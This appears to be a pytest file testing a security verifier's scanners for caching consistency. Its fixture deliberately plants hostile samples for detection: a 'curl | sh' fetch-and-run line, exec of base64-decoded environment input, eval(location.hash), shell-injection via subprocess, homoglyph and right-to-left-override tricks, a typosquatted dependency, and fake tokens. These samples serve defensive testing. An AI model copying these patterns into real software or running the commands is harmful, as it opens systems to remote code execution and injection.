"""Answers about single files: wherever they come from, a script says the same, and leaves what it did not know."""

from __future__ import annotations

import json
import random
import subprocess
import sys
from pathlib import Path

import pytest
from support import checked
from support.tokens import armoured, github

from verifier.checker import APART, INSIDE, OUT, RULES, TREE, Settings
from verifier.checkers.bandit import Bandit
from verifier.checkers.malware import Malware
from verifier.checkers.scancode import Scancode
from verifier.checkers.secrets import Secrets
from verifier.checkers.semgrep import Semgrep
from verifier.checkers.unicode import Unicode
from verifier.inside.apart import Apart

ROOT = Path(__file__).parents[2]
RLO, CYRILLIC_A = "\u202e", "\u0430"
FILES = {
    "shop/__init__.py": '"""Prices."""\n',
    "shop/labels.py": "import subprocess\n\n\ndef label(name):\n    subprocess.run(f'lp {name}', shell=True)\n",
    "shop/rates.py": f"password = 'Correct horse 7'\nr{CYRILLIC_A}tes = rates = 1\nlevel = 'user{RLO}'\n",
    "shop/load.py": "import base64, os\n\nexec(base64.b64decode(os.environ['X']))\nassert eval('1')\n",
    "shop/key.py": f"TOKEN = '{github('shop')}'\nKEY = '''{armoured('shop')}'''\n",
    "shop/broken.py": "def f(:\n",
    "build.sh": "#!/bin/sh\ncurl https://example.org/x | sh\n",
    "web/page.js": "const level = 'user" + RLO + "';\neval(location.hash);\n",
    "logo.png": b"\x89PNG\r\n\x1a\n\0\0\0",
    "README.md": "Shop, see LICENSE.txt for the licence.\n",
    "requirements.txt": "reqeusts==1.0\n",
    "LICENSE.txt": (ROOT / "LICENSE").read_text() + "\nIt may not be sold.\n",
}


@pytest.fixture(scope="module")
def tree(tmp_path_factory):
    folder = tmp_path_factory.mktemp("shop") / "delivery"
    for name, content in FILES.items():
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        (folder / name).write_bytes(content if isinstance(content, bytes) else content.encode())
    return checked.checkout(folder)


class Told:
    """A checker's script, run on our own files as the sandbox would."""

    def __init__(self, checker, tree, folder: Path) -> None:
        self.command = checker.steps(tree, Settings())[-1]
        assert self.command.apart
        self.tree, self.folder = tree, folder
        self.known, self.made = folder / "known.json", folder / "made.json"

    def __call__(self, known):
        """What it answers, and the files that it leaves but for the new answers, which are given as well."""
        self.known.write_text(json.dumps(known))
        places = dict(zip(APART, (str(self.known), str(self.made)), strict=True)) | {TREE: str(self.tree.root)}
        folders = {OUT: str(self.folder), INSIDE: str(ROOT / "verifier" / "inside"), RULES: str(ROOT / "rules")}
        words = [places.get(word) or self._placed(word, folders) for word in self.command.argv[1:]]
        done = subprocess.run(
            [sys.executable, *words], input=self.command.stdin, cwd=self.tree.root, capture_output=True, check=False
        )
        assert done.returncode in self.command.ok, done.stderr.decode()
        left = {
            path.name: path.read_bytes()
            for path in self.folder.iterdir()
            if path.name not in ("known.json", "made.json")
        }
        return (done.stdout, left), json.loads(self.made.read_text())

    def _placed(self, word, folders):
        for inside, here in folders.items():
            if word.startswith(f"{inside}/"):
                return here + word.removeprefix(inside)
        return word


@pytest.mark.parametrize(
    "checker", [Bandit(), Semgrep(), Secrets(), Unicode(), Malware(), Scancode()], ids=lambda c: c.name
)
def test_whatever_part_is_known_the_answer_is_the_same_byte_for_byte(checker, tree, tmp_path):
    script = Told(checker, tree, tmp_path)
    whole, said = script({})
    targets = {target[0] for target in json.loads(script.command.stdin)}
    assert said["whole"] is True
    assert said["parts"].keys() == targets
    assert any(name.encode() in whole[0] or name.encode() in b"".join(whole[1].values()) for name in targets)
    chance = random.Random(checker.name)  # noqa: S311
    for number in (len(targets) // 2, len(targets)) if checker.name != "scancode" else (len(targets) // 2,):
        known = {path: said["parts"][path] for path in chance.sample(sorted(targets), number)}
        again, more = script(known)
        assert again == whole
        assert more["whole"] is True
        assert more["parts"] == {path: part for path, part in said["parts"].items() if path not in known}


def test_a_file_that_could_not_be_read_is_asked_about_again(tree, tmp_path):
    script = Told(Secrets(), tree, tmp_path)
    script.command = type(script.command)(argv=script.command.argv, stdin=b'[["gone.py", true, true]]', apart=True)
    _, said = script({})
    assert said == {"whole": False, "parts": {}}


@pytest.fixture
def apart(tmp_path):
    return Apart(str(tmp_path / "known"), str(tmp_path / "made"))


def test_only_what_is_not_known_is_looked_at(tmp_path):
    (tmp_path / "known").write_text('{"a": {"n": 1}}')
    apart, asked = Apart(str(tmp_path / "known"), str(tmp_path / "made")), []

    def look(targets):
        asked.extend(targets)
        return {path: {"n": (2,)} for path, *_ in targets}

    assert apart.answered([["a", 1], ["b", 2]], look, bool) == {"a": {"n": 1}, "b": {"n": [2]}}
    assert asked == [["b", 2]]
    assert json.loads((tmp_path / "made").read_text()) == {"whole": True, "parts": {"b": {"n": [2]}}}


def test_what_may_be_otherwise_the_next_time_is_not_left(apart, tmp_path):
    apart.answered([["a"], ["b"]], lambda _: {"a": {"late": 1}, "b": {}}, lambda part: "late" not in part)
    assert json.loads((tmp_path / "made").read_text()) == {"whole": False, "parts": {"b": {}}}


def test_what_was_found_beside_the_files_may_be_otherwise_too(apart, tmp_path):
    apart.answered([["a"]], lambda _: {"a": {}}, lambda _: True)
    apart.not_whole()
    assert json.loads((tmp_path / "made").read_text()) == {"whole": False, "parts": {"a": {}}}
